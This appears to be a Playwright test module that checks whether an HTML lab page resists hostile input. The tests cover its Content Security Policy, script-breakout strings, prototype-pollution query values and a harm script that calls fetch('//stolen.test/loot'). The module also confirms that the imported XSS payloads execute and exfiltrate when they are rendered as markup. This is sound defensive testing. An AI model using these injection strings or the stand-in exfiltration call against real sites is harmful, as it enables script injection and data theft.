"""The lab's file and hostile text: what others wrote into a link or a sentence is shown, and nothing else; nothing is asked of
anybody, and the page's own policy would not let it be.

That each of these tests would see the harm it looks for is tried, too.
"""

import json
import re
from urllib.parse import urlsplit

import pytest
from browsing import NEEDED, PATIENCE
from hostile import ENCODED, HALVES, HOSTILE, MARKUP, STOLEN
from tiers import sampled, sized

from headlab.errors import ConfigError
from headlab.report.html.lab import LAB, lab_page
from headlab.runs.experiment import Experiment, notebook_fields

MOST_CHARACTERS = 16_384
MOST = {"sentences": 200, "words in a sentence": 64, "different words": 512}
playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = NEEDED


class Watched:
    """A page of the lab, and everything that went wrong on it or was asked by it."""

    def __init__(self, page, among):
        self.page, self.wrong, self.asked = page, [], []
        page.set_default_timeout(PATIENCE)
        page.on("pageerror", lambda error: self.wrong.append(f"error: {error}"))
        page.on("console", self.hear)
        page.on("dialog", self.dismiss)
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("websocket", lambda socket: self.asked.append(socket.url))
        among.append(self)

    def hear(self, message):
        if message.type == "error" or "Content Security Policy" in message.text:
            self.wrong.append(f"console: {message.text}")

    def dismiss(self, dialog):
        self.wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()


@pytest.fixture(scope="module")
def pages():
    """All pages of the lab that were open and watched in this module."""
    return []


@pytest.fixture(scope="module")
def victim(browser, pages):
    """A page of the lab as its user has it open."""
    context = browser.new_context()
    watched = Watched(context.new_page(), pages)
    watched.page.goto(f"{LAB.as_uri()}#steps=1")
    watched.page.wait_for_selector("button.word")
    yield watched
    context.close()


@pytest.fixture
def empty(browser, pages):
    """One more page, in which nothing is yet."""
    context = browser.new_context()
    yield Watched(context.new_page(), pages)
    context.close()


@pytest.fixture
def fresh(empty):
    """One more page of the lab, for what may break it."""
    empty.page.goto(f"{LAB.as_uri()}#steps=1")
    empty.page.wait_for_selector("button.word")
    return empty


# The file's own policy


def policy(page):
    return dict(
        part.split(" ", 1) for part in re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1].split("; ")
    )


def test_the_policy_lets_the_files_own_script_run_and_nothing_be_fetched():
    said = policy(lab_page())
    assert said["default-src"] == "'none'"
    assert "connect-src" not in said
    assert "unsafe" not in said["script-src"].replace("wasm-unsafe-eval", "")
    assert said["worker-src"] == "blob:"
    assert {said[name] for name in ("base-uri", "form-action")} == {"'none'"}


def test_nothing_in_the_file_names_anything_outside_of_it():
    outside = re.sub(r"<script[^>]*>.*?</script>|<style>.*?</style>", "", lab_page(), flags=re.DOTALL)
    assert re.findall(r'(?:src|href)="([^"]*)"', outside) == ["data:,"]
    assert not re.search(r"url\((?!data:)|@import", "".join(re.findall(r"<style>(.*?)</style>", lab_page(), re.DOTALL)))


@pytest.mark.parametrize("text", ["</script><script>window.__pwned = 1</script>", "<!--", "a'b\"c", *MARKUP[::9]])
def test_settings_that_are_put_into_the_file_are_settings_whatever_they_say(browser, pages, tmp_path, text):
    from headlab.runs.link import write

    sentence = f"n {text} ends".replace("\n", " ")
    link = write({**notebook_fields(), "task": "", "text": sentence, "steps": 1, "schedule": "constant"})
    page = lab_page(link)
    assert page.replace(re.search(r'<script type="text/plain"[^<]*</script>\n  ', page)[0], "") == lab_page()
    path = tmp_path / "lab.html"
    path.write_text(page, encoding="utf-8")
    watched = Watched(browser.new_page(), pages)
    watched.page.goto(path.as_uri())
    watched.page.wait_for_selector("button.word, [role=alert] li")
    assert watched.page.locator("textarea").input_value() == sentence
    assert not watched.page.evaluate("'__pwned' in window")
    assert watched.wrong == []
    watched.page.close()


# Hostile text


def test_the_hostile_texts_are_many_and_all_different():
    assert len(set(HOSTILE)) == len(HOSTILE) > 150


# Set every typed number and go to an address, as often as told, or set the sentences; wait for what must be shown; say how
# the page is then. An address is set with its event at once, as the page writes its own address a moment after each change.
TRY = """async given => {
    const {typed, addresses, sentences, text, words, problems, patience} = JSON.parse(given)
    const area = document.querySelector('textarea')
    const set = (field, value, ...events) => {
        field.value = value
        for (const name of events) field.dispatchEvent(new Event(name, {bubbles: true}))
    }
    const inputs = new Set()
    for (const address of addresses) {
        for (const input of typed === null ? [] : document.querySelectorAll('input:not([type=range], [type=checkbox])')) {
            inputs.add(input.id)
            set(input, typed, 'input', 'change')
        }
        history.replaceState(null, '', '#' + new URLSearchParams(address))
        dispatchEvent(new HashChangeEvent('hashchange'))
        await new Promise(done => setTimeout(done))
    }
    if (sentences !== null) set(area, sentences, 'input')

    const textOf = name => Array.from(document.querySelectorAll(name), element => element.textContent)
    const shown = () => {
        if (area.value !== text) return false
        const alerts = textOf('[role=alert]').join(' ')
        if (problems.length) return problems.every(problem => alerts.includes(problem))
        const chips = textOf('button.word')
        const settings = textOf('[role=alert]:not(.said)') // what was typed and is none stays said beside its field
        return settings.join('').trim() === '' && chips.length === words.length && chips.every((chip, at) => chip === words[at])
    }
    const end = performance.now() + patience
    while (!shown() && performance.now() < end) await new Promise(done => setTimeout(done, 4))

    const suspects = [
        'script', 'img', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'form', 'video', 'audio', 'style', 'body',
        'math', 'marquee', 'template', 'noscript', 'foreignObject', 'animate', 'set', 'use', 'image', 'a', 'x', 'frame',
        'isindex']
    const risky = ['href', 'src', 'srcset', 'srcdoc', 'data', 'action', 'formaction', 'poster', 'xlink:href', 'http-equiv']
    const every = [...document.querySelectorAll('*')]
    return {
        answered: shown(),
        inputs: [...inputs],
        page: {
            ran: '__pwned' in window,
            polluted: [...Object.keys(Object.prototype), ...Object.keys(Array.prototype)],
            elements: suspects.map(name => `${document.querySelectorAll(name).length} ${name}`),
            handlers: every.flatMap(element => element.getAttributeNames()).filter(name => name.startsWith('on')),
            links: every.flatMap(element => risky.map(name => element.getAttribute(name)).filter(value => value !== null)),
            title: document.title,
        },
    }
}"""


def answer_to(fields):
    """What the page must show for an experiment: its text, and its words or the problems."""
    text = fields["text"].replace("\r\n", "\n").replace("\r", "\n")  # as every textarea keeps it
    if len(fields["text"]) > MOST_CHARACTERS:  # the page alone has limits: this one, and MOST
        said = f"the sentences must have at most {MOST_CHARACTERS:,} characters, got {len(fields['text']):,}"
        return {"text": text, "words": [], "problems": [said]}
    try:
        experiment = Experiment.of({"steps": 1, **fields})
    except ConfigError as error:
        return {"text": text, "words": [], "problems": list(map(str, error.problems))}
    corpus = experiment.dataset.corpus
    sizes = zip(MOST.items(), (corpus.n_sequences, corpus.n_ctx, corpus.d_vocab), strict=True)
    problems = [f"the lab takes at most {most} {what}, got {size}" for (what, most), size in sizes if size > most]
    words = [] if problems else [word for words in corpus.sentences for word in words]
    return {"text": text, "words": words, "problems": problems}


class Trials:
    """One hostile text after the other, and what each did to the page."""

    def __init__(self, watched, patience=PATIENCE):
        self.watched, self.patience, self.harm, self.inputs, self.calm = watched, patience, {}, set(), {}
        self.calm = self.ask("", {"text": "a calm start"}, [{}])

    def ask(self, hostile, fields, ways=(), typed=None):
        """Set the sentences, or go to addresses, the last of which has `fields`; wait for the answer; return how the page is."""
        given = {
            "typed": typed,
            "patience": self.patience,
            "sentences": None if ways else fields["text"],
            **answer_to(fields),
        }
        given["addresses"] = [{"steps": 1, **fields, **way} for way in ways]
        found = self.watched.page.evaluate(TRY, json.dumps(given))
        self.inputs |= set(found["inputs"])
        wrong, now = self.watched.wrong[:], found["page"]
        self.watched.wrong.clear()
        wrong += [] if found["answered"] else [f"no answer to {fields}"[:300]]
        wrong += [f"{name}: {now[name]}" for name, value in self.calm.items() if now[name] != value]
        if wrong:
            self.harm[ascii(hostile)[:60]] = wrong
        return now

    def end(self):
        """Return all harm, once the page has shown something harmless again."""
        self.ask("the end", {"text": "a calm end"}, [{}])
        return self.harm


@pytest.mark.parametrize("every", sized(6, 1))
def test_hostile_sentences_are_words_and_nothing_else(victim, every):
    trials = Trials(victim)
    for number, text in enumerate(HOSTILE[::every]):  # a dependency each, so that the explanation shows the words too
        trials.ask(text, {"text": f"n{number} {text} ends\nm{number} {text} closes"})
    assert trials.end() == {}


@pytest.mark.parametrize("every", sized(6, 1))
def test_hostile_numbers_and_addresses_are_values_and_nothing_else(victim, every):
    trials = Trials(victim)
    for number, text in enumerate(HOSTILE[::every]):
        words = {"text": f"n{number} {text} ends", "unembed": True}
        trials.ask(text, words, [{"hide": text, "output": text}])
        refused = {**words, "optimizer": text, "loss": text, "schedule": text, "start": text}
        trials.ask(text, refused, [{"optimizer": "adamw"}, {}], typed=text)  # momentum is typed into, then weight decay
    assert {"seed", "d_head", "learning_rate", "momentum", "weight_decay", "steps", "d_model"} <= trials.inputs
    assert trials.end() == {}


@pytest.mark.parametrize(
    "name", ["seed", "d_head", "learning_rate", "steps", "n_heads", "n_layers", "init_scale", "momentum", "fork"]
)
def test_a_number_that_makes_no_sense_is_answered_in_a_sentence(victim, name):
    trials = Trials(victim)
    for value in (-1, -0.5, 10**20, -1e308):
        trials.ask(f"{name}={value}", {"text": f"{name} is {value}", name: value}, [{}])
    assert trials.end() == {}


RAW = [*MARKUP[::6], *ENCODED[:18:6], "a+b&text=c+d", "%", "x%00y+z&&&=&token=", "a+b&__proto__=5&toString=x"]


@pytest.mark.parametrize("text", sampled(RAW, every=2))
def test_a_raw_address_is_taken_as_it_comes(empty, text):
    empty.page.goto(f"{LAB.as_uri()}#steps=1&text={text}")
    empty.page.wait_for_selector("button.word, [role=alert] li")
    assert Trials(empty).end() == {}


NONSENSE = [
    {"moment": 0.5}, {"against": 0.5}, {"query": 0.5}, {"sequence": 0.5}, {"layer": 0.5, "n_layers": 3}, {"moment": "1e99"},
    {"learning_rate": 1e30, "steps": 20}, {"init_scale": 1e308}, {"learning_rate": 1e308, "steps": 60}, {"d_model": 3},
    {"fork": 3, "before": "[", "steps": 60}, {"optimizer": "x", "hide": "optimizer"},
]  # fmt: skip


@pytest.mark.parametrize("way", sampled(NONSENSE, every=2), ids=str)
def test_an_address_that_makes_no_sense_is_answered_in_a_sentence(fresh, way):
    trials = Trials(fresh)
    settings = {name: value for name, value in way.items() if name in notebook_fields()}
    trials.ask(str(way), {"text": "a b", **settings}, [way])
    assert trials.harm == {}


@pytest.mark.parametrize("text", HALVES, ids=ascii)
def test_half_a_character_is_answered_in_a_sentence(fresh, text):
    trials = Trials(fresh)
    trials.ask(text, {"text": f"n {text} ends"})
    assert trials.end() == {}


# That these tests would see it


HARM = """() => {
    window.__pwned = 1
    Object.prototype.pwned = 1
    document.body.append(Object.assign(document.createElement('img'), {alt: 'x'}))
    document.body.setAttribute('onclick', 'x')
    document.body.append(Object.assign(document.createElement('a'), {href: 'javascript:1'}))
    document.title = 'x'
    fetch('//stolen.test/loot').catch(() => 0)
    setTimeout(() => { throw new Error('x') })
    setTimeout(() => alert(1))
}"""


def test_harm_on_the_labs_page_would_be_seen(fresh):
    trials = Trials(fresh)
    fresh.page.evaluate(HARM)
    seen = json.dumps(trials.end())
    for kind in (
        "ran",
        "polluted",
        "elements",
        "handlers",
        "links",
        "title",
        "Content Security Policy",
        "error: x",
        "dialog: 1",
    ):
        assert kind in seen


def test_all_this_time_the_file_asked_nobody(victim, pages):
    asked = [urlsplit(url) for watched in pages for url in watched.asked]
    assert {url.scheme for url in asked} <= {"file", "blob", "data"}
    assert {url.netloc for url in asked} == {""}  # file://stolen.test would be somebody, too


def test_the_hostile_texts_do_harm_where_text_is_taken_for_markup(browser):
    page, loot = browser.new_page(), set()
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("request", lambda request: loot.add(urlsplit(request.url).path) if STOLEN in request.url else None)
    page.route("**/*", lambda route: route.fulfill(content_type="text/html", body="<!doctype html><p>welcome"))
    page.goto("http://welcome.test/")
    ran = page.evaluate(
        """async texts => {
            const frames = texts.map(srcdoc => Object.assign(document.createElement('iframe'), {srcdoc}))
            document.body.append(...frames)
            const hurt = frame => {
                try { return '__pwned' in frame.contentWindow } catch { return false } // it has gone elsewhere
            }
            const ran = () => frames.filter(hurt).length
            const end = performance.now() + 10000
            while (ran() <= 10 && performance.now() < end) await new Promise(done => setTimeout(done, 50))
            return ran()
        }""",
        HOSTILE,
    )
    page.close()
    assert ran > 10
    assert len({path for path in loot if path.startswith("/loot")}) > 3
